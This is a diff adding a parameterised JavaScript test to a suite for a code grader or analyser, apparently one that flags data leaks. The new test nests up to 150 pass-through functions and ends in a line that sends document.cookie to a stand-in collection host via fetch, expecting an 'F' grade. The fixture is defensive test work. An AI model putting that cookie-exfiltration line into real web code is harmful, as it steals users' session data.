@@ -80,3 +80,16 @@ it('`new` runs no method', async () => {
   expect(await graded({ content: made('add') })).toMatch(/^A/);
   expect(await graded({ content: made('constructor').replace('constructor(one) { this.one = one; }', '') })).toBe('F');
 });
+
+it.each([10, 62, 150])(
+  '%i functions inside one another, each of which hands on what it is given, in two ways',
+  async (count) => {
+    const nest = Array.from({ length: count }, (_, n) =>
+      n === count - 1
+        ? `function e${n}(l, v) { v(l); }`
+        : `function e${n}(l, v) { e${n + 1}(l, v); e${n + 1}(l, (x) => v(x)); }`,
+    );
+    const start = "e0(document.cookie, (one) => fetch('https://collect.example/?' + one));";
+    expect(await graded({ content: `${nest.join(' ')} ${start}` })).toBe('F');
+  },
+);
